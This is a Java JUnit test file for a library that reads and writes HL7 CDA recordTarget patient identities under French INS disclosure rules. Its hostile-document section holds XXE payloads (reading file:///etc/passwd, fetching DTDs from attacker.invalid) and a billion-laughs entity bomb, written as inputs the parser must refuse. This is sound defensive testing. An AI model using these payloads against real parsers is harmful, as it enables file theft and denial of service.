package io.github.ins4j.cda;

import io.github.ins4j.disclosure.Disclosure;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.ins4j.disclosure.DisclosureDecision;
import io.github.ins4j.disclosure.DisclosureException;
import io.github.ins4j.disclosure.DocumentPurpose;
import io.github.ins4j.exchange.ClaimedIdentity;
import io.github.ins4j.exchange.ExchangeException;
import io.github.ins4j.exchange.FormatVersion;
import io.github.ins4j.exchange.Refusal;
import io.github.ins4j.identity.InsIdentity;
import io.github.ins4j.matricule.InsIdentifier;
import io.github.ins4j.matricule.InsOid;
import io.github.ins4j.qualification.IdentityDocument;
import io.github.ins4j.qualification.IdentityEvent.DocumentCheck;
import io.github.ins4j.qualification.IdentityEvent.InsiAnswer;
import io.github.ins4j.qualification.IdentityQualifier;
import io.github.ins4j.qualification.IdentityRecord;
import io.github.ins4j.traits.BirthDate;
import io.github.ins4j.traits.Trait;
import io.github.ins4j.traits.Traits;
import java.io.ByteArrayInputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.function.Supplier;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLOutputFactory;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

/** Examples with a fixed test identity (GARCIA, OID INS-NIR-TEST) and hostile documents. */
class RecordTargetTest {

    static final String MATRICULE = "289046912312018";
    static final Traits GARCIA = Traits.parse("GARCIA", "SARAH-LOU MARIE", "1989-04-12", "F", "69123");
    static final InsIdentity GARCIA_INS = InsIdentity.of(InsIdentifier.parse(MATRICULE, "1.2.250.1.213.1.4.10"), GARCIA);

    static final String GARCIA_XML = "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole>"
            + "<id root=\"1.2.250.1.213.1.4.10\" extension=\"289046912312018\"/>"
            + "<patient><name><family qualifier=\"BR\">GARCIA</family><given qualifier=\"BR\">SARAH-LOU</given>"
            + "<given>SARAH-LOU MARIE</given></name>"
            + "<administrativeGenderCode code=\"F\" codeSystem=\"2.16.840.1.113883.5.1\"/>"
            + "<birthTime value=\"19890412\"/>"
            + "<birthplace><place><addr><county>69123</county></addr></place></birthplace>"
            + "</patient></patientRole></recordTarget>";

    static final IdentityQualifier QUALIFIER =
            IdentityQualifier.of(Clock.fixed(Instant.parse("2026-11-26T09:00:00Z"), ZoneOffset.UTC));

    static IdentityRecord qualified(InsIdentity ins) {
        IdentityRecord record = QUALIFIER.start(ins.traits(), "desk");
        record = QUALIFIER.apply(record, InsiAnswer.found(ins), "desk");
        return QUALIFIER.apply(record, DocumentCheck.of(IdentityDocument.NATIONAL_ID_CARD), "desk");
    }

    // ---------------------------------------------------------------------------------------------
    // Writing, through the disclosure rules

    @Test
    void DIS_1_DIS_4_a_qualified_identity_on_a_care_document_gets_the_ins_and_the_five_traits() {
        assertThat(RecordTargetWriter.write(Disclosure.decide(qualified(GARCIA_INS), DocumentPurpose.CARE_DOCUMENT)))
                .isEqualTo(GARCIA_XML);
    }

    @Test
    void DIS_1_the_garcia_record_target_reads_back_into_the_same_identity() {
        ClaimedIdentity patient = RecordTargetReader.read(GARCIA_XML);
        assertThat(patient.insIdentity()).contains(GARCIA_INS);
        assertThat(patient.traits()).contains(GARCIA);
        assertThat(patient.refusals()).isEmpty();
        assertThat(patient.version()).isEqualTo(FormatVersion.CI_SIS_3);
        assertThat(patient.status()).isEmpty();
        assertThat(patient.toString()).doesNotContain("GARCIA").doesNotContain("2890469123120")
                .startsWith("ClaimedIdentity[CI-SIS 3.0, InsIdentity[InsIdentifier[2 89 ** ** *** *** 18, INS-NIR-TEST], Traits[")
                .endsWith(", LocalTraits[birth name, first names, birth date, sex, birth place; masked], refusals []]");
    }

    @Test
    void DIS_2_a_provisional_identity_gets_the_traits_and_the_local_id_only() {
        IdentityRecord provisional = QUALIFIER.start(GARCIA, "desk");
        String xml = RecordTargetWriter.write(Disclosure.decide(provisional, DocumentPurpose.SHARED_RECORD), CdaLocalId.of("1.2.250.1.71.4.2.7.1.999", "000123456"));
        assertThat(xml).isEqualTo(GARCIA_XML.replace(
                "<id root=\"1.2.250.1.213.1.4.10\" extension=\"289046912312018\"/>",
                "<id root=\"1.2.250.1.71.4.2.7.1.999\" extension=\"000123456\"/>"));
        ClaimedIdentity patient = RecordTargetReader.read(xml);
        assertThat(patient.insIdentity()).isEmpty();
        assertThat(patient.traits()).contains(GARCIA);
        assertThat(patient).hasToString("ClaimedIdentity[CI-SIS 3.0, no INS, LocalTraits[birth name, first names,"
                + " birth date, sex, birth place; masked], refusals []]");
    }

    @Test
    void DIS_1_the_local_id_goes_after_the_ins() {
        String xml = RecordTargetWriter.write(Disclosure.decide(qualified(GARCIA_INS), DocumentPurpose.CARE_DOCUMENT), CdaLocalId.of("1.2.250.1.71.4.2.7.1.999", "IPP-42"));
        assertThat(xml).contains("<id root=\"1.2.250.1.213.1.4.10\" extension=\"289046912312018\"/>"
                + "<id root=\"1.2.250.1.71.4.2.7.1.999\" extension=\"IPP-42\"/><patient>");
        assertThat(RecordTargetReader.read(xml).insIdentity()).contains(GARCIA_INS);
    }

    @ParameterizedTest
    @EnumSource(value = DocumentPurpose.class, names = {"BILLING", "MANDATORY_INSURER", "COMPLEMENTARY_INSURER"})
    void DIS_3_billing_and_insurer_documents_get_the_traits_never_the_ins(DocumentPurpose purpose) {
        String written = RecordTargetWriter.write(Disclosure.decide(qualified(GARCIA_INS), purpose));
        assertThat(written).doesNotContain("2890469123120").doesNotContain("1.2.250.1.213.1.4.10").contains("GARCIA");
    }

    @Test
    void research_gets_nothing_identifying() {
        assertThatThrownBy(() -> RecordTargetWriter.write(Disclosure.decide(qualified(GARCIA_INS), DocumentPurpose.RESEARCH)))
                .isInstanceOfSatisfying(ExchangeException.class, e -> {
                    assertThat(e.reason()).isEqualTo(ExchangeException.Reason.NOTHING_IDENTIFYING);
                    assertThat(e.getMessage()).contains("research").doesNotContain("2890469123120");
                });
    }

    @Test
    void DIS_6_a_missing_purpose_is_refused_not_defaulted() {
        assertThatThrownBy(() -> RecordTargetWriter.write(Disclosure.decide(qualified(GARCIA_INS), null)))
                .isInstanceOf(DisclosureException.class);
    }

    @Test
    void the_writer_goes_inside_a_clinical_document_and_the_reader_stops_after_the_header() throws Exception {
        StringWriter text = new StringWriter();
        XMLStreamWriter out = XMLOutputFactory.newDefaultFactory().createXMLStreamWriter(text);
        out.writeStartElement("ClinicalDocument");
        out.writeDefaultNamespace("urn:hl7-org:v3");
        out.writeEmptyElement("setId");
        DisclosureDecision decision = Disclosure.decide(qualified(GARCIA_INS), DocumentPurpose.SHARED_RECORD);
        RecordTargetWriter.write(out, decision);
        out.writeStartElement("component");
        out.writeStartElement("nonXMLBody");
        out.writeStartElement("text");
        out.writeCharacters("A".repeat(3 * RecordTargetReader.MAX_INPUT));   // an embedded PDF, say
        out.writeEndElement();
        out.writeEndElement();
        out.writeEndElement();
        out.writeEndElement();
        out.close();
        String document = text.toString();

        assertThat(decision.mayCarryIns()).isTrue();
        assertThat(document).contains("<setId/><recordTarget><patientRole>");   // namespace not repeated
        assertThat(RecordTargetReader.read(document).insIdentity()).contains(GARCIA_INS);
        assertThat(RecordTargetReader.read(new ByteArrayInputStream(document.getBytes(StandardCharsets.UTF_8)))
                .insIdentity()).contains(GARCIA_INS);
    }

    @Test
    void a_prefixed_namespace_is_read_too() {
        String prefixed = GARCIA_XML.replace("<", "<v3:").replace("<v3:/", "</v3:")
                .replace("xmlns=", "xmlns:v3=");
        assertThat(RecordTargetReader.read(prefixed).insIdentity()).contains(GARCIA_INS);
    }

    @Test
    void whitespace_comments_and_foreign_elements_are_ignored() {
        String pretty = GARCIA_XML.replace("><", ">\n  <").replace("GARCIA</family>", "\n GARCIA \n</family>")
                .replace("<patient>", "<patient><!-- INS --><sdtc:x xmlns:sdtc=\"urn:hl7-org:sdtc\">y</sdtc:x>")
                .replace("<name>", "<name><family qualifier=\"SP\">DUPONT</family><given qualifier=\"CL\">SARAH</given>");
        assertThat(RecordTargetReader.read(pretty).insIdentity()).contains(GARCIA_INS);
    }

    @Test
    void DIS_4_a_read_ins_has_the_traits_read() {
        ClaimedIdentity read = RecordTargetReader.read(GARCIA_XML);
        assertThat(read.insIdentity().orElseThrow().traits()).isEqualTo(read.traits().orElseThrow());
        assertThat(ClaimedIdentity.class.getConstructors()).isEmpty();
    }

    // ---------------------------------------------------------------------------------------------
    // TRT-3 uncertain dates

    @ParameterizedTest
    @CsvSource({"1960-00-00, 19601231", "1960-07-00, 19600701", "1960-00-15, 19600115"})
    void TRT_3_an_uncertain_date_is_written_as_its_conventional_date(String lunar, String birthTime) {
        Traits traits = Traits.parse("GARCIA", "SARAH-LOU MARIE", lunar, "F", "69123");
        String xml = RecordTargetWriter.write(Disclosure.decide(QUALIFIER.start(traits, "desk"), DocumentPurpose.CARE_DOCUMENT));
        assertThat(xml).contains("<birthTime value=\"" + birthTime + "\"/>");
        BirthDate read = RecordTargetReader.read(xml).traits().orElseThrow().birthDate();
        assertThat(read.conventionalDate()).isEqualTo(traits.birthDate().conventionalDate());
    }

    @ParameterizedTest
    @CsvSource({"1960, 1960-00-00, false", "196007, 1960-07-00, false", "19890412, 1989-04-12, true",
        "198904120830, 1989-04-12, true", "19890412083012.5+0200, 1989-04-12, true",
        "19890412083012.1234+0200, 1989-04-12, true"})
    void TRT_3_birth_times_of_every_precision_are_read(String birthTime, String strict, boolean exact) {
        BirthDate read = RecordTargetReader.read(GARCIA_XML.replace("19890412", birthTime)).traits().orElseThrow().birthDate();
        assertThat(read.value()).isEqualTo(strict);
        assertThat(read.isExact()).isEqualTo(exact);
    }

    // ---------------------------------------------------------------------------------------------
    // Local identifiers

    @ParameterizedTest
    @CsvSource({"1.2.250.1.213.1.4.8, 000123456", "1.2.250.1.213.1.4.10, 000123456",
        "1.2.250.1.213.1.4.2, 000123456", "1.2.250.1.213.1.4.13, 000123456", "not-an-oid, 000123456",
        "1.2.250.01, 000123456", "1.2.250.1.71.4.2.7, 289046912312018", "1.2.250.1.71.4.2.7, 2 89 04 69 123 120 18",
        "1.2.250.1.71.4.2.7, ''", "1.2.250.1.71.4.2.7, 2890469123120", "1.2.250.1.71.4.2.7, IPP-289046912312018",
        "1.2.250.1.71.4.2.7, 289-046-912-312-018", "1.2.250.1.213.1.4.8.1, 000123456"})
    void DIS_2_a_local_id_never_carries_the_ins_in_disguise(String root, String extension) {
        assertThatThrownBy(() -> CdaLocalId.of(root, extension))
                .isInstanceOfSatisfying(ExchangeException.class, e -> {
                    assertThat(e.reason()).isEqualTo(ExchangeException.Reason.LOCAL_ID_REFUSED);
                    assertThat(e.getMessage()).doesNotContain("2890469123120").doesNotContain(extension.isEmpty() ? "\u0000" : extension);
                });
    }

    @net.jqwik.api.Property(tries = 200)
    void DIS_2_a_local_id_holding_a_matricule_or_its_13_first_characters_is_refused(
            @net.jqwik.api.ForAll io.github.ins4j.matricule.InsMatricule matricule, @net.jqwik.api.ForAll boolean withKey) {
        String extension = "IPP/" + (withKey ? matricule.value() : matricule.numIdentifiant());
        assertThatThrownBy(() -> CdaLocalId.of("1.2.250.1.71.4.2.7", extension))
                .isInstanceOfSatisfying(ExchangeException.class,
                        e -> assertThat(e.reason()).isEqualTo(ExchangeException.Reason.LOCAL_ID_REFUSED));
    }

    @Test
    void a_local_id_holds_only_characters_xml_allows() {
        assertRefused(() -> CdaLocalId.of("1.2.250.1", "IPP\uD800"), ExchangeException.Reason.LOCAL_ID_REFUSED);
        assertRefused(() -> CdaLocalId.of("1.2.250.1", "IPP\uFFFE"), ExchangeException.Reason.LOCAL_ID_REFUSED);
        assertThat(CdaLocalId.of("1.2.250.1", "IPP-000123456").extension()).isEqualTo("IPP-000123456");
    }

    @Test
    void local_id_lengths_are_bounded() {
        String root64 = "1.2.250." + "1".repeat(CdaLocalId.MAX_ROOT_LENGTH - 8);
        assertThat(CdaLocalId.of(root64, "1").root()).hasSize(CdaLocalId.MAX_ROOT_LENGTH);
        assertRefused(() -> CdaLocalId.of(root64 + "1", "1"), ExchangeException.Reason.LOCAL_ID_REFUSED);
        String extension100 = "A".repeat(CdaLocalId.MAX_EXTENSION_LENGTH);
        assertThat(CdaLocalId.of("1.2.250.1", extension100).extension()).isEqualTo(extension100);
        assertRefused(() -> CdaLocalId.of("1.2.250.1", extension100 + "A"), ExchangeException.Reason.LOCAL_ID_REFUSED);
        assertRefused(() -> CdaLocalId.of("1.2.250.1", "IPP\n42"), ExchangeException.Reason.LOCAL_ID_REFUSED);
        assertRefused(() -> CdaLocalId.of("1.2.250.1", "\u0000"), ExchangeException.Reason.LOCAL_ID_REFUSED);
    }

    @Test
    void a_local_id_is_masked() {
        assertThat(CdaLocalId.of("1.2.250.1.71.4.2.7", "000123456"))
                .hasToString("CdaLocalId[1.2.250.1.71.4.2.7, masked, 9 characters]");
    }

    // ---------------------------------------------------------------------------------------------
    // Hostile documents

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        // XXE: an external general entity
        "<!DOCTYPE recordTarget [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><recordTarget xmlns=\"urn:hl7-org:v3\">&xxe;</recordTarget>",
        // XXE: an external parameter entity
        "<!DOCTYPE recordTarget [<!ENTITY % p SYSTEM \"http://attacker.invalid/p.dtd\"> %p;]><recordTarget xmlns=\"urn:hl7-org:v3\"/>",
        // an external DTD
        "<?xml version=\"1.0\"?><!DOCTYPE recordTarget SYSTEM \"http://attacker.invalid/x.dtd\"><recordTarget xmlns=\"urn:hl7-org:v3\"/>",
        // billion laughs
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\"><!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\"><!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\"><!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\"><!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\"><!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]><recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole><patient><name><family qualifier=\"BR\">&lol9;</family></name></patient></patientRole></recordTarget>",
        // an entity without DTD
        "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole><patient><name><family qualifier=\"BR\">&xxe;</family></name></patient></patientRole></recordTarget>",
    })
    void hostile_dtds_and_entities_are_refused_unprocessed(String xml) {
        assertRefused(() -> RecordTargetReader.read(xml), ExchangeException.Reason.DTD_REFUSED);
        assertRefused(() -> RecordTargetReader.read(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8))),
                ExchangeException.Reason.DTD_REFUSED);
    }

    @Test
    void huge_documents_are_refused() {
        String huge = GARCIA_XML.replace("<patient>", "<patient><!--" + "x".repeat(RecordTargetReader.MAX_INPUT) + "-->");
        assertRefused(() -> RecordTargetReader.read(huge), ExchangeException.Reason.TOO_LARGE);
        assertRefused(() -> RecordTargetReader.read(new ByteArrayInputStream(huge.getBytes(StandardCharsets.UTF_8))),
                ExchangeException.Reason.TOO_LARGE);
    }

    @Test
    void deeply_nested_documents_are_refused() {
        // patient is at depth 3: 61 nested elements reach the limit, 62 go past it
        int allowed = RecordTargetReader.MAX_DEPTH - 3;
        String deepest = GARCIA_XML.replace("<patient>", "<patient>" + "<x>".repeat(allowed) + "</x>".repeat(allowed));
        assertThat(RecordTargetReader.read(deepest).insIdentity()).contains(GARCIA_INS);
        String tooDeep = GARCIA_XML.replace("<patient>", "<patient>" + "<x>".repeat(allowed + 1) + "</x>".repeat(allowed + 1));
        assertRefused(() -> RecordTargetReader.read(tooDeep), ExchangeException.Reason.TOO_DEEP);
    }

    @Test
    void a_malformed_document_just_within_the_size_limit_is_malformed_not_too_large() {
        String start = GARCIA_XML.replace("</recordTarget>", "<!--");
        String exact = start + "x".repeat(RecordTargetReader.MAX_INPUT - start.length());
        assertThat(exact).hasSize(RecordTargetReader.MAX_INPUT);
        assertRefused(() -> RecordTargetReader.read(exact), ExchangeException.Reason.MALFORMED_XML);
        assertRefused(() -> RecordTargetReader.read(new ByteArrayInputStream(exact.getBytes(StandardCharsets.UTF_8))),
                ExchangeException.Reason.MALFORMED_XML);
        assertRefused(() -> RecordTargetReader.read(exact + "x"), ExchangeException.Reason.TOO_LARGE);
    }

    @Test
    void the_parser_is_configured_without_dtd_external_entities_nor_resolver() {
        XMLInputFactory factory = RecordTargetReader.factory();
        assertThat(factory.getProperty(XMLInputFactory.SUPPORT_DTD)).isEqualTo(false);
        assertThat(factory.getProperty(XMLInputFactory.IS_SUPPORTING_EXTERNAL_ENTITIES)).isEqualTo(false);
        assertThat(factory.getProperty(XMLInputFactory.IS_REPLACING_ENTITY_REFERENCES)).isEqualTo(false);
        assertThatThrownBy(() -> factory.getXMLResolver().resolveEntity("p", "file:///etc/passwd", "b", "n"))
                .isInstanceOf(XMLStreamException.class);
    }

    @Test
    void reading_stops_at_the_header_element_after_the_record_target() {
        String document = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><setId/>" + GARCIA_XML.replace(" xmlns=\"urn:hl7-org:v3\"", "")
                + "<author></never-read></ClinicalDocument>";
        assertThat(RecordTargetReader.read(document).insIdentity()).contains(GARCIA_INS);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole>",
        "not xml at all",
        "''",
        "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole></patient></recordTarget>",
        "<recordTarget xmlns=\"urn:hl7-org:v3\"/><recordTarget xmlns=\"urn:hl7-org:v3\"/>",
    })
    void malformed_xml_is_refused(String xml) {
        assertRefused(() -> RecordTargetReader.read(xml), ExchangeException.Reason.MALFORMED_XML);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "<recordTarget><patientRole/></recordTarget>",
        "<patientRole xmlns=\"urn:hl7-org:v3\"/>",
        "<recordTarget xmlns=\"urn:hl7-org:v3\"/>",
        "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title/></ClinicalDocument>",
        "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><recordTarget><patientRole/></recordTarget><recordTarget/></ClinicalDocument>",
        "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole/><patientRole/></recordTarget>",
        "<recordTarget xmlns=\"urn:hl7-org:v3\"><patientRole><patient/><patient/></patientRole></recordTarget>",
    })
    void documents_without_exactly_one_record_target_are_refused(String xml) {
        assertRefused(() -> RecordTargetReader.read(xml), ExchangeException.Reason.INVALID_STRUCTURE);
    }

    // ---------------------------------------------------------------------------------------------
    // The INS id

    @Test
    void the_retired_ins_c_root_is_refused() {
        ClaimedIdentity read = assertPartRefused(GARCIA_XML.replace("1.2.250.1.213.1.4.10", "1.2.250.1.213.1.4.2"),
                ExchangeException.Reason.WRONG_OID);
        assertThat(read.traits()).contains(GARCIA);   // the document is read, its INS is not kept
    }

    @ParameterizedTest
    @CsvSource({"1.2.250.1.213.1.4.13", "1.2.250.1.213.1.4.12", "1.2.250.1.71.4.2.7"})
    void other_roots_are_not_the_ins(String root) {
        ClaimedIdentity patient = RecordTargetReader.read(GARCIA_XML.replace("1.2.250.1.213.1.4.10", root));
        assertThat(patient.insIdentity()).isEmpty();
        assertThat(patient.refusals()).isEmpty();
        assertThat(patient.traits()).contains(GARCIA);
    }

    @ParameterizedTest
    @CsvSource({"1.2.250.1.213.1.4.8, NIR", "1.2.250.1.213.1.4.9, NIA", "1.2.250.1.213.1.4.11, NIR_DEMO"})
    void every_ins_oid_is_read(String root, InsOid oid) {
        assertThat(RecordTargetReader.read(GARCIA_XML.replace("1.2.250.1.213.1.4.10", root))
                .insIdentity().orElseThrow().identifier().oid()).isEqualTo(oid);
    }

    @Test
    void two_ins_ids_are_refused() {
        String id = "<id root=\"1.2.250.1.213.1.4.10\" extension=\"289046912312018\"/>";
        assertPartRefused(GARCIA_XML.replace(id, id + id.replace(".10\"", ".8\"")), ExchangeException.Reason.TWO_INS);
    }

    @ParameterizedTest
    @CsvSource({"289046912312019", "28904691231201", "2 89 04 69 123 120 18", "2890469123120180"})
    void an_invalid_matricule_is_refused_without_being_shown(String extension) {
        ClaimedIdentity read = assertPartRefused(GARCIA_XML.replace(MATRICULE, extension),
                ExchangeException.Reason.INVALID_MATRICULE);
        assertThat(read.refusal(Refusal.Part.INS).orElseThrow().message()).doesNotContain(extension.substring(0, 13));
    }

    @Test
    void an_ins_id_without_extension_is_refused() {
        assertPartRefused(GARCIA_XML.replace(" extension=\"289046912312018\"", ""),
                ExchangeException.Reason.INVALID_MATRICULE);
    }

    @Test
    void an_id_with_a_null_flavor_is_ignored() {
        ClaimedIdentity patient = RecordTargetReader.read(GARCIA_XML.replace("<id root=\"1.2.250.1.213.1.4.10\" extension=\"289046912312018\"/>",
                "<id nullFlavor=\"NI\"/>"));
        assertThat(patient.insIdentity()).isEmpty();
    }

    // ---------------------------------------------------------------------------------------------
    // DIS-4: the five traits

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "<family qualifier=\"BR\">GARCIA</family>|<family>GARCIA</family>",
        // (a given qualifier="BR" alone is the CI-SIS 2.41 layout of one first name: INT_4 tests)
        "<given qualifier=\"BR\">SARAH-LOU</given><given>SARAH-LOU MARIE</given>|<given qualifier=\"CL\">SARAH-LOU MARIE</given>",
        "<administrativeGenderCode code=\"F\" codeSystem=\"2.16.840.1.113883.5.1\"/>|<administrativeGenderCode nullFlavor=\"UNK\"/>",
        "<birthTime value=\"19890412\"/>|''",
        "<county>69123</county>|<city>LYON</city>",
        "<county>69123</county>|<county/>",
    })
    void DIS_4_the_ins_never_comes_without_its_five_traits(String element, String replacement) {
        ClaimedIdentity withIns = assertPartRefused(GARCIA_XML.replace(element, replacement),
                ExchangeException.Reason.MISSING_TRAIT);
        Refusal ins = withIns.refusal(Refusal.Part.INS).orElseThrow();
        assertThat(ins.reason()).isEqualTo(ExchangeException.Reason.MISSING_TRAIT);
        assertThat(ins.message()).contains("DIS-4");
        assertThat(withIns.traits()).isEmpty();
        assertThat(withIns.localTraits().birthName().isPresent() || withIns.localTraits().birthDate().isPresent()).isTrue();
        String withoutIns = GARCIA_XML.replace("1.2.250.1.213.1.4.10", "1.2.250.1.71.4.2.7").replace(element, replacement);
        ClaimedIdentity local = assertPartRefused(withoutIns, ExchangeException.Reason.MISSING_TRAIT);
        assertThat(local.refusal(Refusal.Part.INS)).isEmpty();
        assertThat(local.refusals()).allSatisfy(r -> assertThat(r.message()).doesNotContain("DIS-4"));
    }

    @Test
    void DIS_4_no_patient_no_traits() {
        String xml = GARCIA_XML.substring(0, GARCIA_XML.indexOf("<patient>")) + "</patientRole></recordTarget>";
        ClaimedIdentity read = assertPartRefused(xml, ExchangeException.Reason.MISSING_TRAIT);
        assertThat(read.refusals()).filteredOn(r -> r.part() == Refusal.Part.TRAITS).hasSize(5);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "GARCIA</family>|Garcia</family>|BIRTH_NAME",
        "SARAH-LOU MARIE</given>|SARAH-LOU  MARIE</given>|BIRTH_FIRST_NAMES",
        "code=\"F\"|code=\"UN\"|SEX",
        "19890412|1989-04-12|BIRTH_DATE",
        "19890412|19890230|BIRTH_DATE",
        "19890412|29890412|BIRTH_DATE",
        "<county>69123<|<county>6912<|BIRTH_PLACE_CODE",
    })
    void invalid_traits_are_refused_with_the_trait_named(String from, String to, Trait trait) {
        ClaimedIdentity read = assertPartRefused(GARCIA_XML.replace(from, to), ExchangeException.Reason.INVALID_TRAIT);
        Refusal refusal = read.refusal(Refusal.Part.TRAITS).orElseThrow();
        assertThat(refusal.reason()).isEqualTo(ExchangeException.Reason.INVALID_TRAIT);
        assertThat(refusal.message()).contains(trait.label())
                .doesNotContain(to.replace("</family>", "").replace("</given>", ""));
        assertThat(read.refusal(Refusal.Part.INS).orElseThrow().reason()).isEqualTo(ExchangeException.Reason.INVALID_TRAIT);
    }

    @Test
    void the_sex_code_system_is_checked() {
        assertPartRefused(GARCIA_XML.replace("2.16.840.1.113883.5.1", "1.2.250.1.213.1.1.4.1"),
                ExchangeException.Reason.INVALID_TRAIT);
    }

    @Test
    void TRT_2_the_first_first_name_must_start_the_list() {
        assertPartRefused(GARCIA_XML.replace("<given qualifier=\"BR\">SARAH-LOU</given>",
                "<given qualifier=\"BR\">MARIE</given>"), ExchangeException.Reason.INCONSISTENT_FIRST_NAME);
        ClaimedIdentity withoutFirst = RecordTargetReader.read(GARCIA_XML.replace("<given qualifier=\"BR\">SARAH-LOU</given>", ""));
        assertThat(withoutFirst.traits()).contains(GARCIA);
    }

    @Test
    void INT_4_the_ci_sis_2_41_layout_of_the_first_names_is_read_and_said() {
        ClaimedIdentity current = RecordTargetReader.read(GARCIA_XML);
        assertThat(current.version()).isEqualTo(FormatVersion.CI_SIS_3);
        ClaimedIdentity older = RecordTargetReader.read(GARCIA_XML.replace("<given>SARAH-LOU MARIE</given>",
                "<given>MARIE</given>"));
        assertThat(older.version()).isEqualTo(FormatVersion.CI_SIS_2);
        assertThat(older.insIdentity()).contains(GARCIA_INS);
        assertThat(older.refusals()).isEmpty();
        ClaimedIdentity three = RecordTargetReader.read(GARCIA_XML.replace("<given>SARAH-LOU MARIE</given>",
                "<given>MARIE</given><given>ANNE</given>"));
        assertThat(three.version()).isEqualTo(FormatVersion.CI_SIS_2);
        assertThat(three.traits().orElseThrow().firstNames().value()).isEqualTo("SARAH-LOU MARIE ANNE");
        ClaimedIdentity alone = RecordTargetReader.read(GARCIA_XML.replace("<given>SARAH-LOU MARIE</given>", ""));
        assertThat(alone.version()).isEqualTo(FormatVersion.CI_SIS_2);
        assertThat(alone.traits().orElseThrow().firstNames().value()).isEqualTo("SARAH-LOU");
    }

    @Test
    void INT_4_the_ci_sis_2_41_example_layout_ruth_isabelle() {
        String xml = GARCIA_XML.replace("<given qualifier=\"BR\">SARAH-LOU</given><given>SARAH-LOU MARIE</given>",
                "<given qualifier=\"BR\">RUTH</given><given>ISABELLE</given>");
        ClaimedIdentity read = RecordTargetReader.read(xml);
        assertThat(read.version()).isEqualTo(FormatVersion.CI_SIS_2);
        assertThat(read.traits().orElseThrow().firstNames().value()).isEqualTo("RUTH ISABELLE");
        assertThat(read.traits().orElseThrow().firstNames().first()).isEqualTo("RUTH");
        assertThat(read.insIdentity().orElseThrow().identifier()).isEqualTo(GARCIA_INS.identifier());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "<given>SARAH-LOU MARIE</given>|<given>SARAH-LOU</given><given>MARIE</given>",
        "<given qualifier=\"BR\">SARAH-LOU</given>|<given qualifier=\"BR\">SARAH-LOU</given><given qualifier=\"BR\">SARAH</given>",
        "<family qualifier=\"BR\">GARCIA</family>|<family qualifier=\"BR\">GARCIA</family><family qualifier=\"BR\">LOPEZ</family>",
        "</name>|</name><name><family qualifier=\"BR\">LOPEZ</family></name>",
        "<birthTime value=\"19890412\"/>|<birthTime value=\"19890412\"/><birthTime value=\"19890413\"/>",
        "<birthTime value=\"19890412\"/>|<birthTime value=\"19890412\"/><administrativeGenderCode code=\"M\"/>",
        "</addr>|<county>69124</county></addr>",
    })
    void a_trait_given_twice_is_refused(String from, String to) {
        assertPartRefused(GARCIA_XML.replace(from, to), ExchangeException.Reason.DUPLICATE_TRAIT);
    }

    private static void assertRefused(Supplier<Object> read, ExchangeException.Reason reason) {
        assertThatThrownBy(read::get).isInstanceOfSatisfying(ExchangeException.class, e -> {
            assertThat(e.reason()).isEqualTo(reason);
            assertThat(e.getMessage()).startsWith("CDA recordTarget refused (" + reason + "): ")
                    .doesNotContain("2890469123120").doesNotContain("GARCIA")
                    .doesNotContain("SARAH").doesNotContain("19890412").doesNotContain("69123");
        });
    }

    /**
     * Reads a document whose INS, if any, is not kept, with a refusal for {@code reason}; no
     * refusal message nor the masked form shows a value.
     */
    private static ClaimedIdentity assertPartRefused(String xml, ExchangeException.Reason reason) {
        ClaimedIdentity read = RecordTargetReader.read(xml);
        assertThat(read.refusals()).extracting(Refusal::reason).contains(reason);
        assertThat(read.insIdentity()).isEmpty();
        assertThat(read.refusals()).allSatisfy(r -> assertThat(r.message()).doesNotContain("2890469123120")
                .doesNotContain("GARCIA").doesNotContain("SARAH").doesNotContain("19890412").doesNotContain("69123"));
        assertThat(read.toString()).doesNotContain("2890469123120").doesNotContain("GARCIA").doesNotContain("SARAH");
        return read;
    }

    @Test
    void exact_dates_read_back_as_written() {
        assertThat(RecordTargetReader.read(GARCIA_XML).traits().orElseThrow().birthDate()).isEqualTo(BirthDate.of(LocalDate.of(1989, 4, 12)));
    }
}
